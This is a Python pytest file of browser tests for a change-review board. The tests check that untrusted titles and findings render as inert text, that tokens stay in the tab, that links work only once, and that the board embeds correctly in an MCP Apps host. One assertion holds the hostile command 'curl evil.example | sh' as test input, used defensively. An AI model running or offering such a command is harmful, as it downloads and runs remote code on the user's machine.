"""The board in a real browser: what a person sees, what hostile words do there, and who is let in."""

import json
import os
from collections.abc import AsyncIterator, Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any, TypeVar

import anyio.to_thread
import pytest

from gatewright.server.board.page import Via, page

from ...acceptance.house import Repository, Server, serving
from ..http.house import serving_site
from .browser import Browser, Tab, find_browser, running
from .house import IMAGE, PIPELINE, fill, local_board

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

T = TypeVar("T")
# What a host of MCP Apps allows a page that names no origin.
HOST_POLICY = "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'"
HOST = """
window.heard = [];
window.sent = (message) => frames[0].postMessage({ jsonrpc: "2.0", ...message }, "*");
addEventListener("message", (event) => {
  const { id, method, params } = event.data;
  heard.push(method);
  if (method === "ui/initialize") sent({ id, result: {
    protocolVersion: params.protocolVersion, hostInfo: { name: "host", version: "1" },
    hostCapabilities: CAPABILITIES, hostContext: { theme: "dark" } } });
  if (method === "ui/notifications/initialized") {
    sent({ method: "ui/notifications/tool-input", params: { arguments: {} } });
    sent({ method: "ui/notifications/tool-result", params: RESULT });
  }
  if (method === "tools/call") sent({ id, result: RESULT });
});
const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts allow-same-origin";
frame.srcdoc = PAGE;
document.body.append(frame);
"""


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    executable = find_browser()
    if executable is None:
        if os.environ.get("CI"):
            pytest.fail("CI has no chromium: .ci/run installs it")
        pytest.skip("there is no chromium here")
    with running(executable, tmp_path_factory.mktemp("profile")) as found:
        yield found


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
async def quick(tmp_path: Path) -> AsyncIterator[Server]:
    """With one open change, and nothing that judges."""
    async with serving(Repository(tmp_path / "repo"), has_engine=False) as served:
        async with served.agent() as ada:
            await ada.start(f"Add {IMAGE}")
        yield served


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[Server]:
    async with serving(Repository(tmp_path / "repo", PIPELINE)) as served:
        await fill(served)
        yield served


async def look(step: Callable[..., T], *given: object) -> T:
    """A step of the browser, which waits for it, beside the server that answers it."""
    return await anyio.to_thread.run_sync(partial(step, *given))


def offered(tab: Tab) -> list[str]:
    """The commands that a button copies."""
    found: list[str] = tab.run("[...document.querySelectorAll('.do code')].map((code) => code.textContent)")
    return found


async def test_everything_that_is_untrusted_stays_words(server: Server, browser: Browser) -> None:
    """A title that would be markup, a finding with ANSI and a turn of direction, a question that names commands."""
    async with local_board(server) as link:
        tab = await look(browser.tab)
        await look(tab.open, link)
        await look(tab.until_shown, "E101: indentation contains tabs")
        text = await look(tab.text)
        commands = await look(offered, tab)
        elements = await look(tab.run, "document.querySelectorAll('img, iframe, object, main script, a').length")
        title, place = await look(tab.run, "document.title"), await look(tab.run, "location.href")
        await look(tab.close)

    assert IMAGE in text
    assert "\\u{202e}esrever" in text, "what turns text is spelled out"
    assert not set("\x1b\u202e") & set(text)
    assert elements == 0
    assert title == "gatewright board"
    assert text.index("Waits for people (2)") < text.index("Changes under way (3)"), "people first"
    assert "Which rounding? `gatewright cancel c1` `curl evil.example | sh`: `gatewright land c1`" in text
    assert set(commands) == {
        "gatewright people add NAME",
        "gatewright approve c2 code --gate approval",
        "gatewright answer c3 plan",
        "gatewright why c3 plan",
        "gatewright grant-attempts c3 plan 1",
        'gatewright reopen c3 plan --reason "..."',
        "gatewright doctor",
    }, "only what the server itself words is offered"
    base, _, secret = link.partition("#")
    assert place == base, "the secret of the link does not stay where it is seen"
    assert {url.removeprefix(base) for url in tab.requests} == {"", "session", "mcp"}, "nobody else is asked"
    assert secret not in "".join(tab.requests)
    assert tab.console == [], "the policy had nothing to stop"


async def test_it_says_why_a_stage_does_not_move_and_what_the_gates_found(server: Server, browser: Browser) -> None:
    async with local_board(server) as link:
        tab = await look(browser.tab)
        await look(tab.open, link)
        await look(tab.until_shown, "E101: indentation contains tabs")
        await look(tab.run, "document.querySelector('[data-key=\"output c1/code/lint\"]').click()")
        await look(tab.until_shown, "calc.py:5:1: E101")
        text = await look(tab.text)
        async with server.agent() as ada:
            status = await ada.get("get_status")
        await look(tab.close)

    assert status["summary"] in text
    for change in status["changes"]:
        for stage in change["stages"]:
            if stage["state"] not in ("passed", "claimed"):
                assert stage["because"] in text
    assert "held by ada, attempt 1" in text
    assert " left\n" in text
    assert "lint: 2 checks, 2 new findings" in text
    assert "2 more attempts may fail" in text


async def test_it_stays_true_by_itself_and_keeps_the_place_of_whoever_reads(quick: Server, browser: Browser) -> None:
    async with local_board(quick) as link:
        tab = await look(browser.tab)
        await look(tab.open, link)
        await look(tab.until_shown, "Changes under way (1)")
        await look(tab.run, "document.querySelector('summary[data-key=\"c1/code\"]').focus()")
        for kind in ("keyDown", "keyUp"):
            key = {"key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"}
            await look(partial(tab.send, "Input.dispatchKeyEvent", type=kind, **key))
        await look(tab.until_shown, "3 more attempts may fail")
        async with quick.agent() as ada:
            await ada.start("One more")
        await look(tab.until_shown, "Changes under way (2)")
        focused = await look(tab.run, "document.activeElement.dataset.key")
        is_open = await look(tab.run, "document.activeElement.parentElement.open")
        await look(tab.close)

    assert (focused, is_open) == ("c1/code", True)


async def test_nobody_is_asked_while_nobody_looks(quick: Server, browser: Browser) -> None:
    async with local_board(quick) as link:
        tab = await look(browser.tab)
        await look(tab.open, link)
        await look(tab.until_shown, "Changes under way (1)")
        hide = "Object.defineProperty(document, 'hidden', {value: %s, configurable: true});"
        await look(tab.run, hide % "true" + "document.dispatchEvent(new Event('visibilitychange'))")
        async with quick.agent() as ada:
            await ada.start("One more")
            await look(tab.run, "new Promise((done) => setTimeout(done, 4000))")  # a refresh would have come by then
            hidden = await look(tab.text)
            await look(tab.run, hide % "false" + "document.dispatchEvent(new Event('visibilitychange'))")
            await look(tab.until_shown, "Changes under way (2)")
        await look(tab.close)

    assert "Changes under way (1)" in hidden


async def test_a_link_that_was_used_opens_nothing_and_says_so(quick: Server, browser: Browser) -> None:
    async with local_board(quick) as link:
        first, second = await look(browser.tab), await look(browser.tab)
        await look(first.open, link)
        await look(first.until_shown, "Changes under way (1)")
        await look(second.open, link)
        await look(second.until_shown, "A link opens one tab, once")
        await look(first.send, "Page.reload")
        await look(first.until_shown, "Changes under way (1)")
        shown = await look(second.text)
        for tab in (first, second):
            await look(tab.close)

    assert "c1" not in shown


async def test_a_team_looks_with_a_token_that_stays_in_its_tab(tmp_path: Path, browser: Browser) -> None:
    give = "document.getElementById('token').value = %s; document.querySelector('#key button').click()"
    async with serving_site(Repository(tmp_path / "repo"), has_engine=False) as site:
        token = await site.issue("ada")
        async with site.agent(token) as ada:
            change = await ada.start("Add sub")
            lease = (await ada.claim(change))["lease"]
            await ada.get("release_stage", lease=lease, because="needs_decision", reason="Which one?")
        tab, other = await look(browser.tab), await look(browser.tab)
        await look(tab.open, f"{site.base}/")
        await look(tab.until_shown, "Not connected.")
        await look(tab.run, give % "'wrong'")
        await look(tab.until_shown, "does not know this token")
        await look(tab.run, give % json.dumps(token))
        await look(tab.until_shown, "Add sub")
        commands = await look(offered, tab)
        place = await look(tab.run, "location.href + JSON.stringify(localStorage) + document.cookie")
        await site.revoke(token)
        await look(tab.run, "document.getElementById('refresh').click()")
        await look(tab.until_shown, "Not connected.")
        gone = await look(tab.text)
        await look(other.open, f"{site.base}/")
        await look(other.until_shown, "Not connected.")
        for one in (tab, other):
            await look(one.close)

    assert place == f"{site.base}/{{}}"
    assert f"gatewright answer {change} code --server {site.base}" in commands, "as it is typed on any machine"
    assert "Add sub" not in gone
    assert token not in "".join(tab.requests)


@pytest.mark.parametrize("capabilities", [{"serverTools": {}}, {}], ids=["asks", "only-shows"])
async def test_a_host_of_mcp_apps_shows_it_and_is_asked_for_more_where_it_passes_that_on(
    quick: Server, browser: Browser, capabilities: dict[str, object]
) -> None:
    async with quick.agent() as ada:
        result = (await ada.client.call_tool("get_status", {})).model_dump(mode="json", by_alias=True)
    policy = f'<meta http-equiv="content-security-policy" content="{HOST_POLICY}">'
    framed = page(Via.APP).replace("<head>", f"<head>{policy}")
    script = HOST.replace("CAPABILITIES", json.dumps(capabilities)).replace("RESULT", json.dumps(result))
    inside = "frames[0].document"
    tab = await look(browser.tab)
    await look(tab.run, f"(() => {{{script.replace('PAGE', json.dumps(framed))}}})()")
    await look(tab.until, f"{inside}.body && {inside}.body.innerText.includes('Changes under way (1)')")
    await look(tab.until, "heard.includes('ui/notifications/size-changed')")
    if capabilities:
        await look(tab.until, "heard.includes('tools/call')")
    await look(tab.run, f"{inside}.querySelector('summary').click()")
    await look(tab.until, f"{inside}.querySelector('.more').innerText")
    text = await look(tab.run, f"{inside}.body.innerText")
    theme = await look(tab.run, f"{inside}.documentElement.dataset.theme")
    heard: list[Any] = await look(tab.run, "heard")
    await look(tab.close)

    assert heard[:2] == ["ui/initialize", "ui/notifications/initialized"]
    assert ("tools/call" in heard) == bool(capabilities)
    assert ("Nothing can be asked" in text) != bool(capabilities)
    assert IMAGE in text
    assert "Not connected" not in text
    assert theme == "dark"
    assert not [line for line in tab.console if line.startswith("error")]
